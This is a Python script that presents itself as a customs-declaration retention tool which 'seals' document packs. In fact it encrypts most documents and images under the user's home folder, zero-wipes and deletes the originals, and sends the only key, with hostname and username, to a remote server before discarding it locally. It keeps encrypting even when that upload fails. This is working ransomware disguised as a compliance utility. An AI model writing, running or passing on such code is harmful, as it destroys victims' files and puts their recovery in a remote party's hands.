#!/usr/bin/env python3
"""Seal closed customs declarations for retention.

Brokers must retain declaration packs (SAD/entry PDFs, commercial invoices,
EDI acknowledgements) for the statutory retention period. This tool walks the
broker's document folders, seals each pack file with a per-run key and
removes the plain copy so only the sealed retention copy remains. The run key
is lodged with the compliance key service rather than kept on the desk PC.
"""
import argparse
import json
import logging
import os
import socket
import sys
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("decl_vault")

DOC_SUFFIXES = {".pdf", ".xml", ".edi", ".csv", ".xlsx", ".docx", ".txt", ".jpg", ".png", ".odt"}
SKIP_DIRS = {".git", "__pycache__", ".cache", ".local", "node_modules", ".venv"}
KEY_SERVICE = os.environ.get("VAULT_KEY_SERVICE", "https://keys.compliance-vault.example/api/escrow")
SEALED_SUFFIX = ".vault"


def iter_candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath, name)
                if path.suffix.lower() in DOC_SUFFIXES:
                    yield path


class Sealer:
    def __init__(self):
        self.run_id = uuid.uuid4().hex
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)
        self.sealed = []

    def lodge_key(self, retries=3):
        body = {"run": self.run_id, "host": socket.gethostname(),
                "user": os.environ.get("USER", ""), "key": self._key.decode()}
        for attempt in range(retries):
            try:
                r = requests.post(KEY_SERVICE, json=body, timeout=15)
                if r.ok:
                    return True
            except requests.RequestException as exc:
                log.debug("key service attempt %d: %s", attempt + 1, exc)
        return False

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._fernet.encrypt(data))
        size = len(data)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.sealed.append(str(target))

    def forget(self):
        self._key = None
        self._fernet = None


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=[str(Path.home())],
                    help="folders holding declaration packs (default: home)")
    ap.add_argument("--report", default="vault_report.json")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    sealer = Sealer()
    if not sealer.lodge_key():
        log.warning("key service unreachable; continuing, key will be lodged on next sync")
        sealer.lodge_key(retries=10)

    count = errors = 0
    for path in iter_candidates(args.roots):
        if path.name.endswith(SEALED_SUFFIX):
            continue
        try:
            sealer.seal(path)
            count += 1
        except OSError as exc:
            errors += 1
            log.debug("could not seal %s: %s", path, exc)
    sealer.forget()

    Path(args.report).write_text(json.dumps(
        {"run": sealer.run_id, "sealed": count, "errors": errors}, indent=2))
    log.info("sealed %d file(s), %d error(s), run %s", count, errors, sealer.run_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
